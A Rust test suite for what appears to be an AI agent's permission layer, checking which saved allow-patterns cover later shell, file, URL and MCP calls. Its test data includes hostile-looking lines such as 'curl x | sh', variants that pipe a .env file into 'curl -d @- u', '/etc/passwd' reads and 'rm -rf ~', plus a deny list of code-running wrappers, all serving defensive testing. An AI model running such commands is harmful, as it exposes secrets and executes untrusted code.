use podward_policy::{
    Action, AskedBy, Asker, GrantRule, LayerKind, Lowered, OperationIdx, Policies, ToolName,
};
use podward_shell::AddedPrograms;
use serde_json::{Value, json};

use super::{Choices, Width, check_pattern, choices};
use crate::fixture::{policies, text_place};
use crate::registry::lower;

type Rules<'a> = &'a [(&'a str, &'a str, Action)];

fn lowered(tool: &str, arguments: Value) -> Lowered {
    lower(tool, arguments, &text_place()).unwrap().1
}

fn bash(command: &str) -> Lowered {
    lowered("bash", json!({ "command": command }))
}

fn offered(policies: &Policies, call: &Lowered) -> Choices {
    choices(call, &policies.asking(call), &AddedPrograms::default())
}

/// The parts of a call, each with its choices as `width tool pattern`.
fn shown(choices: &Choices) -> Vec<Vec<String>> {
    let part = |part: &super::ChoicePart| {
        let choice = |choice: &super::Choice| match choice.tool.as_str() {
            "bash" => format!("{} {}", choice.width, choice.pattern),
            tool => format!("{} {tool} {}", choice.width, choice.pattern),
        };
        part.choices.iter().map(choice).collect()
    };
    choices.parts().iter().map(part).collect()
}

/// What is offered where a default asks about everything.
fn check(call: &Lowered, expected: &[&[&str]]) {
    let choices = offered(&policies(Action::Ask, &[]), call);
    assert_eq!(
        shown(&choices),
        expected,
        "{call:?}: {:?}",
        choices.why_none()
    );
}

fn check_commands(cases: &[(&str, &[&[&str]])]) {
    let policies = policies(Action::Ask, &[]);
    let mut wrong = Vec::new();
    for (command, expected) in cases {
        let choices = offered(&policies, &bash(command));
        if shown(&choices) != *expected {
            wrong.push((
                *command,
                shown(&choices),
                choices.why_none().map(str::to_owned),
            ));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Whether every part that asks is covered by what was saved for another call.
fn is_covered(policies: &Policies, rules: &[GrantRule], call: &Lowered) -> bool {
    let asking = policies.asking(call);
    asking
        .iter()
        .all(|asking| rules.iter().any(|rule| rule.covers(asking, call)))
}

#[test]
fn a_command_is_offered_as_it_is_its_subcommand_and_its_program() {
    check_commands(&[
        (
            "git push origin main",
            &[&[
                "exact git push origin main",
                "subcommand git push *",
                "program git *",
            ]],
        ),
        ("ls", &[&["exact ls", "program ls *"]]),
        (
            "cargo test -p x --lib",
            &[&[
                "exact cargo test -p x --lib",
                "subcommand cargo test *",
                "program cargo *",
            ]],
        ),
        (
            "make -j 4 test",
            &[&[
                "exact make -j 4 test",
                "subcommand make -j 4 test *",
                "program make *",
            ]],
        ),
        (
            "git commit -m 'fix it'",
            &[&[
                "exact git commit -m 'fix it'",
                "subcommand git commit *",
                "program git *",
            ]],
        ),
        (
            "./build.sh all",
            &[&[
                "exact ./build.sh all",
                "subcommand ./build.sh all *",
                "program ./build.sh *",
            ]],
        ),
        (
            "FOO=1 git push",
            &[&[
                "exact FOO=1 git push",
                "subcommand FOO=1 git push *",
                "program FOO=1 git *",
            ]],
        ),
        ("LANG=C ls", &[&["exact ls", "program ls *"]]),
    ]);
}

#[test]
fn numbers_and_temporary_files_are_left_open_each_in_its_own_word() {
    check_commands(&[
        (
            "head -n 20 README.md",
            &[&[
                "exact head -n 20 README.md",
                "similar head -n '[0-9]*' README.md",
                "program head *",
            ]],
        ),
        (
            "head -20 a",
            &[&[
                "exact head -20 a",
                "similar head '-[0-9]*' a",
                "program head *",
            ]],
        ),
        (
            "head -n20 a",
            &[&[
                "exact head -n20 a",
                "similar head '-n[0-9]*' a",
                "program head *",
            ]],
        ),
        (
            "head --lines=20 a",
            &[&[
                "exact head --lines=20 a",
                "similar head '--lines=[0-9]*' a",
                "program head *",
            ]],
        ),
        (
            "stat /tmp/tmp.Xy12/a",
            &[&[
                "exact stat /tmp/tmp.Xy12/a",
                "similar stat '/tmp/*'",
                "program stat *",
            ]],
        ),
        (
            // What begins like a hash may be any word, and what stands behind `-m` an option.
            "mytool -x 4f2a9c1b7e",
            &[&["exact mytool -x 4f2a9c1b7e", "program mytool *"]],
        ),
        (
            "mytool --message 'it is done' x",
            &[&["exact mytool --message 'it is done' x", "program mytool *"]],
        ),
        ("chmod 644 a", &[&["exact chmod 644 a", "program chmod *"]]),
        (
            "grep -rn 'a b' src",
            &[&["exact grep -rn 'a b' src", "program grep *"]],
        ),
    ]);
}

#[test]
fn each_part_of_a_compound_is_a_part_of_the_choice() {
    check_commands(&[
        (
            "git add . && git commit -m 'x y' && cd sub; true",
            &[
                &["exact git add .", "subcommand git add *", "program git *"],
                &[
                    "exact git commit -m 'x y'",
                    "subcommand git commit *",
                    "program git *",
                ],
            ],
        ),
        (
            "cat a | sort -u > out/list",
            &[
                &["exact cat a", "program cat *"],
                &["exact sort -u", "program sort *"],
                &["file file_write out/list", "directory file_write out/*"],
            ],
        ),
        (
            "bash -c 'git status && ls'",
            &[
                &["exact bash -c 'git status && ls'"],
                &[
                    "exact git status",
                    "subcommand git status *",
                    "program git *",
                ],
                &["exact ls", "program ls *"],
            ],
        ),
        (
            "sudo systemctl restart nginx",
            &[
                &[
                    "exact sudo systemctl restart nginx",
                    "subcommand sudo systemctl restart *",
                    "program sudo systemctl *",
                ],
                &[
                    "exact systemctl restart nginx",
                    "subcommand systemctl restart *",
                    "program systemctl *",
                ],
            ],
        ),
        (
            "timeout 5 git fetch",
            &[&["exact git fetch", "subcommand git fetch *", "program git *"]],
        ),
    ]);
}

#[test]
fn what_runs_anything_is_never_offered_as_a_whole() {
    check_commands(&[
        ("python3 -c 'print(1)'", &[&["exact python3 -c print(1)"]]),
        (
            "python3 tools/x.py --n 3",
            &[&[
                "exact python3 tools/x.py --n 3",
                "subcommand python3 tools/x.py *",
            ]],
        ),
        ("node -e 1", &[&["exact node -e 1"]]),
        (
            "bash x.sh a",
            &[&["exact bash x.sh a", "subcommand bash x.sh *"]],
        ),
        (
            "awk '{print $1}' a",
            &[&["exact awk '{print $1}' a", "subcommand awk '{print $1}' *"]],
        ),
        (
            "npx prettier -w a",
            &[&["exact npx prettier -w a", "program npx prettier *"]],
        ),
        (
            "npm run build",
            &[&["exact npm run build", "subcommand npm run build *"]],
        ),
        (
            "docker run --rm alpine ls /",
            &[&[
                "exact docker run --rm alpine ls /",
                "program docker run --rm alpine ls *",
            ]],
        ),
        (
            "docker ps",
            &[&["exact docker ps", "subcommand docker ps *"]],
        ),
        ("ssh host ls", &[&["exact ssh host ls"]]),
        ("psql -l", &[&["exact psql -l"]]),
        (
            "sqlite3 /tmp/a1/x.db .tables",
            &[&[
                "exact sqlite3 /tmp/a1/x.db .tables",
                "similar sqlite3 '/tmp/*' .tables",
            ]],
        ),
        ("vim a", &[&["exact vim a"]]),
        (
            "uv run pytest -q",
            &[&["exact uv run pytest -q", "program uv run pytest *"]],
        ),
        (
            "python3 -m pytest -q",
            &[&["exact python3 -m pytest -q", "program python3 -m pytest *"]],
        ),
    ]);
}

#[test]
fn patterns_say_what_they_mean() {
    check_commands(&[
        ("rm *.log", &[&["exact rm [*].log", "program rm *"]]),
        ("ls a?b '[x]'", &[&["exact ls a[?]b [[]x]", "program ls *"]]),
        ("[ -f a ]", &[&["exact [[] -f a ]", "program [[] *"]]),
        (
            "mytool \"it's\"",
            &[&["exact mytool 'it'\\''s'", "program mytool *"]],
        ),
        ("mytool ''", &[&["exact mytool ''", "program mytool *"]]),
        (
            "mytool '**/x'",
            &[&["exact mytool [*][*]/x", "program mytool *"]],
        ),
    ]);
    check(
        &lowered(
            "web_fetch",
            json!({"url": "https://example.com/a/b?x=[1]*"}),
        ),
        &[&[
            "url web_fetch https://example.com/a/b[?]x=[[]1][*]",
            "host web_fetch https://example.com/a/*",
            "host web_fetch https://example.com/*",
        ]],
    );
}

#[test]
fn a_text_with_holes_is_offered_only_where_the_pattern_must_match() {
    check_commands(&[
        (
            "git log \"$x\"",
            &[&["subcommand git log *", "program git *"]],
        ),
        ("git log $x", &[&["subcommand git log *", "program git *"]]),
        (
            "git add \"$f\"",
            &[&["subcommand git add *", "program git *"]],
        ),
        ("cat \"$f\"", &[&["program cat *"]]),
        ("head -n 20 \"$f\"", &[&["program head *"]]),
        ("for f in *.tmp; do rm \"$f\"; done", &[&["program rm *"]]),
        ("ls src/$x", &[&["program ls *"]]),
        // Which part is not known hides what runs, or may be an option that runs a program.
        ("git push origin \"$b\"", &[]),
        ("git $x", &[]),
        ("python3 $x", &[]),
        ("$x a", &[]),
    ]);
    let policies = policies(Action::Ask, &[]);
    let why = |command: &str| {
        let choices = offered(&policies, &bash(command));
        choices.why_none().unwrap_or_default().to_owned()
    };
    assert!(why("$x a").contains("not known"), "{}", why("$x a"));
    assert!(why("curl x | sh").contains("nobody knows what would run"));
}

#[test]
fn paths_urls_and_tools_of_servers() {
    let read = |path: &str| lowered("read", json!({ "path": path }));
    check(
        &read("src/a.rs"),
        &[&["file read src/a.rs", "directory read src/*"]],
    );
    check(&read("README.md"), &[&["file read README.md"]]);
    check(&read("a[1]*.md"), &[&["file read a[[]1][*].md"]]);
    check(&read("/etc/hosts"), &[&["file read /etc/hosts"]]);
    check(
        &read("/usr/share/doc/x"),
        &[&[
            "file read /usr/share/doc/x",
            "directory read /usr/share/doc/*",
        ]],
    );
    check(
        &read("/tmp/x"),
        &[&["file read /tmp/x", "directory read /tmp/*"]],
    );
    check(&read("/home/ada/x"), &[&["file read /home/ada/x"]]);
    check(
        &read("~/.config/x"),
        &[&[
            "file read /home/ada/.config/x",
            "directory read /home/ada/.config/*",
        ]],
    );
    check(&lowered("list", json!({})), &[&["file list ."]]);
    check(
        &lowered("grep", json!({"pattern": "x", "path": "src/a"})),
        &[&["file grep src/a", "directory grep src/*"]],
    );
    check(
        &lowered("web_fetch", json!({"url": "https://example.com"})),
        &[&[
            "url web_fetch https://example.com/",
            "host web_fetch https://example.com/*",
        ]],
    );
    check(
        &lowered("web_fetch", json!({"url": "http://[::1]:8080/x"})),
        &[&[
            "url web_fetch http://[[]::1]:8080/x",
            "host web_fetch http://[[]::1]:8080/*",
        ]],
    );
    check(
        &lowered("web_fetch", json!({"url": "https://u:p@example.com/"})),
        &[],
    );
    check(
        &lowered("mcp__git__log", json!({"n": 3, "a": "*"})),
        &[&[
            "same_arguments mcp__git__log {\"a\":\"[*]\",\"n\":3}",
            "tool mcp__git__log {*}",
        ]],
    );
}

#[test]
fn only_what_asks_is_a_part() {
    let rules: Rules<'_> = &[
        ("bash", "git *", Action::Allow),
        ("read", "secrets/*", Action::Ask),
    ];
    let policies = policies(Action::Ask, rules);
    let choices = offered(&policies, &bash("git status && cat secrets/key"));
    assert_eq!(
        shown(&choices),
        [
            vec!["exact cat secrets/key", "program cat *"],
            vec!["file read secrets/key", "directory read secrets/*"],
        ]
    );
    let askers: Vec<_> = choices.at(0).iter().map(|c| c.askers.clone()).collect();
    let asker = |by| Asker {
        layer: LayerKind::Manifest,
        by,
    };
    let rule = AskedBy::Rule {
        tool: "read".into(),
        pattern: "secrets/*".into(),
    };
    assert_eq!(askers, [vec![asker(AskedBy::Default)], vec![asker(rule)]]);
    let allowed = offered(&policies, &bash("git status"));
    assert_eq!(allowed.why_none(), Some("it is not the rules that ask"));
    assert_eq!(allowed.n_levels(), 0);
}

#[test]
fn a_part_that_must_be_answered_each_time_leaves_nothing_to_save() {
    let policies = policies(Action::Ask, &[("bash", "rm *", Action::Deny)]);
    for command in ["git $x; ls", "ls | sh", "eval \"$x\"", "ls; $x"] {
        let choices = offered(&policies, &bash(command));
        assert!(
            choices.why_none().is_some() || command == "git $x; ls",
            "{command}"
        );
    }
    let may_be_denied = offered(
        &crate::fixture::policies(Action::Ask, &[("bash", "git push*", Action::Deny)]),
        &bash("git $x"),
    );
    assert_eq!(
        may_be_denied.why_none(),
        Some("a part of it is not known before it runs, and a rule may deny it")
    );
}

/// For each width: the call it is offered for, what it covers beside it, and what it does not.
#[test]
fn a_saved_choice_covers_its_own_call_and_no_neighbour() {
    use Width::{
        Directory, Exact, File, Host, Program, SameArguments, Similar, Subcommand, Tool, Url,
    };
    let command = |text: &str| bash(text);
    let path = |path: &str| lowered("file_write", json!({"path": path, "content": "x"}));
    let url = |url: &str| lowered("web_fetch", json!({ "url": url }));
    let mcp = |n: u32| lowered("mcp__a__b", json!({ "n": n }));
    let cases: Vec<(Width, Lowered, Vec<Lowered>, Vec<Lowered>)> = vec![
        (
            Exact,
            command("git push origin main"),
            vec![command("git  push 'origin' main")],
            vec![
                command("git push origin main -f"),
                command("git push origin"),
                command("git push origin mainx"),
                command("/bin/git push origin main"),
                command("A=1 git push origin main"),
                command("git push origin main && ls"),
                command("git push origin main > x"),
            ],
        ),
        (
            Similar,
            command("head -n 20 a"),
            vec![command("head -n 5 a")],
            vec![
                command("head -n 5 b"),
                command("head -n 5 -v a"),
                command("head -n x a"),
                command("head -n -c a"),
                command("head -n 5/../x a"),
                command("head -n \"$x\" a"),
            ],
        ),
        (
            Similar,
            command("stat /tmp/tmp.1/a"),
            vec![command("stat /tmp/tmp.2/b")],
            vec![
                command("stat /tmp/../etc/passwd"),
                command("stat /tmp/a /etc/passwd"),
                command("stat /etc/passwd"),
            ],
        ),
        (
            Subcommand,
            command("git push origin main"),
            vec![command("git push"), command("git push -f")],
            vec![
                command("git pull"),
                command("git -C x push"),
                command("git pushx"),
                command("git $x"),
                // It may be an option that runs a program.
                command("git push $x"),
                command("git push; ls"),
                command("sudo git push"),
                command("git -c core.pager=x push"),
            ],
        ),
        (
            Program,
            command("git push origin main"),
            vec![command("git log"), command("git")],
            vec![
                command("gitk"),
                command("git log | sh"),
                command("./git push"),
                command("git -c core.pager=x log"),
            ],
        ),
        (
            Subcommand,
            command("python3 x.py a"),
            vec![command("python3 x.py b c")],
            vec![
                command("python3 y.py"),
                command("python3 -c 1"),
                command("python3"),
                command("python3 x.pyc"),
            ],
        ),
        (
            File,
            path("src/a"),
            vec![path("./src//a"), path("/work/src/a")],
            vec![
                path("src/b"),
                path("src/a/b"),
                path("SRC/a"),
                path("src/../a"),
            ],
        ),
        (
            Directory,
            path("src/a"),
            vec![path("src/b"), path("src/c/d")],
            vec![path("src"), path("srcs/a"), path("src/../a"), path("a")],
        ),
        (
            Url,
            url("https://a.example/x/y?q=1"),
            vec![url("https://A.example:443/x/y?q=1")],
            vec![
                url("https://a.example/x/y"),
                url("https://a.example/x/y?q=12"),
                url("http://a.example/x/y?q=1"),
            ],
        ),
        (
            Host,
            url("https://a.example/x/y"),
            vec![url("https://a.example/x/z?q")],
            vec![
                url("https://a.example/z"),
                url("https://a.example.org/x/y"),
                url("https://a.example:8443/x/y"),
                url("https://b.a.example/x/y"),
                url("https://u@a.example/x/y"),
                url("http://a.example/x/y"),
            ],
        ),
        (
            SameArguments,
            mcp(1),
            vec![],
            vec![mcp(2), lowered("mcp__a__c", json!({"n": 1}))],
        ),
        (
            Tool,
            mcp(1),
            vec![mcp(2), lowered("mcp__a__b", json!({}))],
            vec![
                lowered("mcp__a__c", json!({"n": 1})),
                lowered("mcp__c__b", json!({"n": 1})),
            ],
        ),
    ];
    let policies = policies(Action::Ask, &[]);
    for (width, call, covered, not_covered) in &cases {
        let choices = offered(&policies, call);
        let choice = choices
            .parts()
            .iter()
            .flat_map(|part| &part.choices)
            .find(|choice| choice.width == *width)
            .unwrap_or_else(|| panic!("{width} of {call:?}: {choices:?}"));
        let rules = [choice.rule().unwrap()];
        for call in std::iter::once(call).chain(covered) {
            assert!(
                is_covered(&policies, &rules, call),
                "{}: {call:?}",
                choice.pattern
            );
        }
        for call in not_covered {
            assert!(
                !is_covered(&policies, &rules, call),
                "{}: {call:?}",
                choice.pattern
            );
        }
    }
}

#[test]
fn a_pattern_that_leaves_open_what_runs_is_never_saved() {
    let none = AddedPrograms::default();
    let tool = |name: &str| ToolName::new(name).unwrap();
    let refused = |name: &str, pattern: &str| {
        assert!(
            check_pattern(&tool(name), pattern, &none).is_err(),
            "{name} {pattern}"
        );
    };
    for pattern in [
        "*",
        "bash *",
        "sh -c *",
        "/bin/sh *",
        "zsh -*",
        "python3 *",
        "python3 -c *",
        "python3 '-c' *",
        "python3 [a-z]*.py",
        "python3.1? x",
        "node *",
        "node -e *",
        "perl *",
        "awk *",
        "java *",
        "deno run *",
        "deno eval *",
        "eval *",
        "source *",
        ". *",
        "trap *",
        "exec *",
        "command *",
        "sudo *",
        "sudo -u root *",
        "sudo bash *",
        "sudo python3 *",
        "env *",
        "env A=b *",
        "env A=b bash *",
        "A=b python3 *",
        "xargs *",
        "xargs -n 1 *",
        "xargs sh *",
        "timeout 5 *",
        "nice *",
        "find . -exec *",
        "find . -exec rm *",
        "parallel *",
        "watch *",
        "ssh *",
        "ssh host *",
        "npx *",
        "npx -y *",
        "npm *",
        "npm exec *",
        "pnpm dlx *",
        "uvx *",
        "uv *",
        "uv run *",
        "uv run python3 *",
        "pipx run *",
        "bundle exec *",
        "docker *",
        "docker run *",
        "docker run -v /:/x *",
        "docker exec c *",
        "kubectl *",
        "kubectl exec p -- *",
        "git -c *",
        "g* push",
        "'git *'",
    ] {
        refused("bash", pattern);
    }
    for (name, pattern) in [
        ("file_write", "*"),
        ("file_write", "/*"),
        ("file_write", "*.rs"),
        ("web_fetch", "https://*/x"),
        ("web_fetch", "https://*.example.com/*"),
        ("web_fetch", "*"),
        ("mcp__a__b", "*"),
        ("external_directory", "/*"),
    ] {
        refused(name, pattern);
    }
    for (name, pattern) in [
        ("bash", "bash -c 'ls'"),
        ("bash", "python3 x.py *"),
        ("bash", "git push *"),
        ("bash", "git * main"),
        ("bash", "sudo systemctl restart *"),
        ("bash", "npx prettier *"),
        ("bash", "npm run *"),
        // Offered once, and valid where it is saved.
        ("bash", "psql *"),
        ("bash", "cargo test '*'"),
        ("file_write", "src/*"),
        ("web_fetch", "https://example.com/*"),
        ("mcp__a__b", "{*}"),
        ("mcp__a__b", "{\"n\":*}"),
    ] {
        check_pattern(&tool(name), pattern, &none).unwrap_or_else(|e| panic!("{pattern}: {e}"));
    }
    let mut added = AddedPrograms::default();
    added
        .add("program runit\nwrapper kept\nstyle stops\noperands command\n")
        .unwrap();
    assert!(check_pattern(&tool("bash"), "runit *", &added).is_err());
    assert!(check_pattern(&tool("bash"), "runit ls *", &added).is_ok());
    let problem = check_pattern(&tool("bash"), "sudo -u root *", &none).unwrap_err();
    assert_eq!(problem.message, "`sudo -u root` runs whatever follows it");
}

#[test]
fn an_edited_pattern_stays_within_what_was_shown() {
    let policies = policies(Action::Ask, &[]);
    let none = AddedPrograms::default();
    let first = OperationIdx(0);
    let edited = |call: &Lowered, pattern: &str| {
        offered(&policies, call)
            .rules_of(call, &[(first, pattern)], &none)
            .map(|rules| {
                rules
                    .into_iter()
                    .map(|rule| rule.pattern().to_owned())
                    .collect::<Vec<_>>()
            })
            .map_err(|refused| refused.problem.message)
    };
    let push = bash("git push origin main");
    for pattern in [
        "git push origin *",
        "git push *",
        "git *",
        "git * main",
        "git push origin main",
    ] {
        assert_eq!(edited(&push, pattern), Ok(vec![pattern.to_owned()]));
    }
    let too_wide = "the pattern covers more than the widest one offered";
    let message = |call: &Lowered, pattern: &str| edited(call, pattern).unwrap_err();
    let script = bash("python3 x.py 1");
    assert!(message(&script, "python3 x.py*").starts_with("`python3` runs whatever"));
    let write = lowered("file_write", json!({"path": "src/gen/a", "content": ""}));
    assert_eq!(
        edited(&write, "src/gen/[ab]"),
        Ok(vec!["src/gen/[ab]".to_owned()])
    );
    assert!(message(&write, "src/*").starts_with(too_wide));
    let fetch = lowered("web_fetch", json!({"url": "https://a.example/x"}));
    assert!(message(&fetch, "http://a.example/*").contains("does not match this call"));
    let mcp = lowered("mcp__a__b", json!({"n": 1}));
    assert_eq!(edited(&mcp, "{\"n\":?}"), Ok(vec!["{\"n\":?}".to_owned()]));
    assert!(message(&push, "git pull *").contains("does not match this call"));
    assert!(message(&push, "git push **").contains("`**`"));
    // What is no longer offered is not taken anew.
    assert!(message(&bash("psql -l"), "psql *").starts_with(too_wide));

    let two = bash("git push; ls");
    let choices = offered(&policies, &two);
    let both = [(first, "git push"), (OperationIdx(1), "ls *")];
    assert_eq!(choices.rules_of(&two, &both, &none).unwrap().len(), 2);
    let refused = |patterns: &[(OperationIdx, &str)]| {
        choices
            .rules_of(&two, patterns, &none)
            .unwrap_err()
            .problem
            .message
    };
    assert_eq!(
        refused(&both[..1]),
        "there is no pattern for this part of the call"
    );
    assert_eq!(
        refused(&[both[0], both[1], both[1]]),
        "there are two patterns for this part of the call"
    );
    assert_eq!(
        refused(&[both[0], both[1], (OperationIdx(9), "ls")]),
        "this part of the call is not asked about"
    );
}

#[test]
fn one_level_is_one_rule_for_each_part() {
    let policies = policies(Action::Ask, &[]);
    let call = bash("git push origin && bash -c ls");
    let choices = offered(&policies, &call);
    assert_eq!(choices.n_levels(), 3);
    let patterns = |level: usize| -> Vec<String> {
        let rules = choices.rules(level).unwrap();
        rules.iter().map(|rule| rule.pattern().to_owned()).collect()
    };
    assert_eq!(patterns(0), ["git push origin", "bash -c ls", "ls"]);
    assert_eq!(patterns(1), ["git push *", "bash -c ls", "ls *"]);
    assert_eq!(patterns(2), ["git *", "bash -c ls", "ls *"]);
    assert_eq!(choices.rules(3), None);
}

#[test]
fn what_is_saved_of_one_command_holds_where_it_was_asked() {
    check_commands(&[
        ("cd sub && rm a.txt", &[&["exact rm a.txt", "program rm *"]]),
        // Nothing wider: in another directory `./check` is another program.
        ("cd sub && ./check a", &[&["exact ./check a"]]),
        ("cd sub && bash x.sh a", &[&["exact bash x.sh a"]]),
    ]);
    let policies = policies(Action::Ask, &[]);
    let saved = |command: &str| offered(&policies, &bash(command)).rules(0).unwrap();
    let is_saved = |given: &str, now: &str| is_covered(&policies, &saved(given), &bash(now));
    for command in ["./check a", "rm a.txt", "head -n 5 a"] {
        let there = format!("cd sub && {command}");
        let elsewhere = format!("cd other && {command}");
        assert!(is_saved(command, command));
        assert!(is_saved(command, &format!("cd sub/.. && {command}")));
        assert!(is_saved(&there, &there));
        assert!(is_saved(
            &there,
            &format!("(cd ./sub/; true) && cd sub && {command}")
        ));
        for (given, now) in [
            (command, &*there),
            (&there, command),
            (&there, &elsewhere),
            (&there, &format!("cd sub; {command}")),
        ] {
            assert!(!is_saved(given, now), "{given} | {now}");
        }
    }
}

/// Whether what was saved of one command, in any width that says all of it, covers another.
fn is_saved_narrowly(given: &str, now: &str) -> bool {
    is_saved_under(&policies(Action::Ask, &[]), given, now)
}

fn is_saved_under(policies: &Policies, given: &str, now: &str) -> bool {
    let found = offered(policies, &bash(given));
    let narrow = |choice: &super::Choice| matches!(choice.width, Width::Exact | Width::Similar);
    let levels = (0..found.n_levels()).filter(|level| found.at(*level).into_iter().all(narrow));
    let mut rules = levels.map(|level| found.rules(level).unwrap());
    rules.any(|rules| is_covered(policies, &rules, &bash(now)))
}

fn check_apart(pairs: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (one, other) in pairs {
        for (given, now, expected) in [
            (one, one, true),
            (other, other, true),
            (one, other, false),
            (other, one, false),
        ] {
            if is_saved_narrowly(given, now) != expected {
                wrong.push(format!("`{given}` for `{now}`: {}", !expected));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn what_is_saved_of_a_literal_word_covers_no_word_that_the_shell_expands() {
    check_apart(&[
        ("rm -rf '~'", "rm -rf ~"),
        ("rm -rf '~/x'", "rm -rf ~/x"),
        ("rm \\~root", "rm ~root"),
        ("rm \"*\"", "rm *"),
        ("rm 'a?'", "rm a?"),
        ("rm '[ab]'", "rm [ab]"),
        ("rm 'a*'", "rm a*"),
        ("rm '*'.[ab]", "rm *.[ab]"),
        ("rm a'*'b*", "rm a*b'*'"),
        ("x='*'; rm \"$x\"", "x='*'; rm $x"),
        ("'FOO=1' x", "FOO=1 x"),
        ("FOO='~' x", "FOO=~ x"),
        ("make 'p=~/x'", "make p=~/x"),
        ("grep 'foo.*' x", "grep foo.* x"),
        ("find . -name '*.rs'", "find . -name *.rs"),
        ("head -n 5 '*.c'", "head -n 5 *.c"),
        ("sudo rm '*'", "sudo rm *"),
        ("cd sub && rm '*'", "cd sub && rm *"),
    ]);
    // However a literal is quoted, it is the same word.
    assert!(is_saved_narrowly("rm '*'", "rm \\*"));
    assert!(is_saved_narrowly("grep 'foo.*' x", "grep \"foo.\"'*' x"));
    assert!(is_saved_narrowly("rm a*", "rm 'a'*"));
    // What the quotes in brackets mean is not read: it is asked about each time.
    assert!(!is_saved_narrowly("rm [a'-'c]", "rm [a-c]"));
    assert!(!is_saved_narrowly("rm [a-c]", "rm [a'-'c]"));
}

#[test]
fn another_number_is_no_file_name_pattern() {
    for (given, now) in [
        ("rm 5", "rm 2*"),
        ("rm 5", "rm 2[0-9]"),
        ("head -n 20 a", "head -n 5* a"),
        ("cat /tmp/x", "cat /tmp/*"),
        ("cat /tmp/*", "cat /tmp/?"),
        ("cat '/tmp/*'", "cat /tmp/*"),
        ("head -n 5 '*'", "head -n 6 *"),
    ] {
        assert!(!is_saved_narrowly(given, now), "{given} | {now}");
    }
    for (given, now) in [
        ("rm 5", "rm '2*'"),
        ("head -n 5 *.c", "head -n 6 *.c"),
        ("head -n 5 '*'", "head -n 6 '*'"),
    ] {
        assert!(is_saved_narrowly(given, now), "{given} | {now}");
    }
}

#[test]
fn what_is_saved_of_a_command_covers_no_other_input() {
    check_apart(&[
        ("./load app.db <<< 'select 1'", "./load app.db < notes/s"),
        ("sqlite3 app.db <<< 'select 1'", "sqlite3 app.db"),
        ("./load app.db < notes/s", "./load app.db < notes/t"),
        ("./load app.db < notes/s", "cd notes && ../load app.db < s"),
        (
            "curl -d @- https://a.example/ <<< done",
            "echo gone | curl -d @- https://a.example/",
        ),
        ("./deploy <<< staging", "./deploy <<< production"),
        (
            "python3 - <<'E'\nprint(1)\nE",
            "python3 - <<'E'\nprint(2)\nE",
        ),
        ("patch <<< a", "patch <<< b"),
        ("kubectl apply -f - <<< a", "kubectl apply -f - <<< b"),
    ]);
    // Only what reads is asked about.
    let ask = |pattern| ("bash", pattern, Action::Ask);
    let policies = policies(
        Action::Allow,
        &["curl *", "sqlite3 *", "./load *", "wc *"].map(ask),
    );
    for (given, now) in [
        ("curl -d @- u", "cat .env | curl -d @- u"),
        ("curl -d @- u", "curl -d @- u < .env"),
        ("curl -d @- u", "exec < .env; curl -d @- u"),
        ("curl -d @- u", "{ exec < .env; }; curl -d @- u"),
        ("curl -d @- u", "f() { curl -d @- u; }; f < .env"),
        ("curl -d @- u", "{ curl -d @- u; } < .env"),
        ("curl -d @- u", "if true; then curl -d @- u; fi < .env"),
        (
            "curl -d @- u",
            "cat .env | while read x; do curl -d @- u; done",
        ),
        ("curl -d @- u", "cat .env | (curl -d @- u)"),
        ("curl -d @- u", "curl -d @- u < <(cat .env)"),
        ("curl -d @- u", "curl -d @- u <&3"),
        ("curl -d @- u", "timeout 5 curl -d @- u < .env"),
        ("curl -d @- u < .env", "{ read x; curl -d @- u; } < .env"),
        ("curl -d @- u < .env", "curl -d @- u < */.env"),
        (
            "find . -exec curl -d @- u \\;",
            "find . -exec curl -d @- u \\; < .env",
        ),
        ("curl -d @- u < /dev/fd/3", "curl -d @- u < /dev/fd/3"),
    ] {
        assert!(!is_saved_under(&policies, given, now), "{given} | {now}");
    }
    // The same input is the same command, and what is data to a program makes it no other one.
    for (given, now) in [
        (
            "sqlite3 app.db <<< 'select 1'",
            "sqlite3 app.db <<< \"select 1\"",
        ),
        (
            "sqlite3 app.db <<< 'select 1'",
            "echo 'select 1' | sqlite3 app.db",
        ),
        (
            "./load app.db < notes/s",
            "./load app.db < ./notes/../notes/s",
        ),
        (
            "./load app.db < notes/s",
            "timeout 5 ./load app.db < notes/s",
        ),
        ("sqlite3 app.db", "sqlite3 app.db < /dev/null"),
        ("wc -l", "git ls-files | wc -l"),
        ("curl -d @- u", "if true; then curl -d @- u; fi"),
    ] {
        assert!(is_saved_under(&policies, given, now), "{given} | {now}");
    }
    for line in [
        "cargo test 2>&1 | tail -5",
        "git log | grep 'a.*b' | head -3",
        "sort a | uniq -c",
        "cat a.json | jq '.[]' | sed -n '1,5p'",
        "git status",
    ] {
        assert!(is_saved_narrowly(line, line), "{line}");
    }
    check_commands(&[("x | sqlite3 a", &[]), ("sed -f - a < x", &[])]);
}
